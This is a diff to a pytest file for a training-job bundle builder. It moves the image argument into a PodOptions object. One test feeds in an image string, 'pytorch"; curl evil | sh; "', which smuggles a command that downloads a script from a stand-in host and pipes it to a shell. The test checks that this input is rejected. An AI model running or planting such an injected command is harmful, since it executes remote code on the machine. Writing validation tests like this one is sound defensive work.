@@ -16,7 +16,14 @@ from pathlib import Path
 import pytest
 import yaml
 
-from executor.launch.bundle import DEFAULT_IMAGE, build_bundle, bundle_files, bundle_name, write_bundle
+from executor.launch.bundle import (
+    DEFAULT_IMAGE,
+    PodOptions,
+    build_bundle,
+    bundle_files,
+    bundle_name,
+    write_bundle,
+)
 from executor.launch.quoting import UnsafeValueError, dns_label
 from planner.catalog.models import resolve_model
 from planner.plan import Plan
@@ -270,9 +277,9 @@ def test_cpu_plans_request_no_gpus_and_gpu_plans_do() -> None:
 
 def test_image_and_names_are_validated() -> None:
     with pytest.raises(UnsafeValueError):
-        build_bundle(make_plan(), image='pytorch"; curl evil | sh; "')
+        build_bundle(make_plan(), pods=PodOptions(image='pytorch"; curl evil | sh; "'))
     image = "ghcr.io/org/train:2.13@sha256:abc"
-    files = {f.path: f.data for f in bundle_files(make_plan(), target="k8s", image=image)}
+    files = {f.path: f.data for f in bundle_files(make_plan(), target="k8s", pods=PodOptions(image=image))}
     assert documents(files["k8s.yaml"].decode())["TrainJob"]["spec"]["trainer"]["image"] == image
     label = dns_label("--Über Modell!!--" * 10, suffix="0123abcd")
     assert (
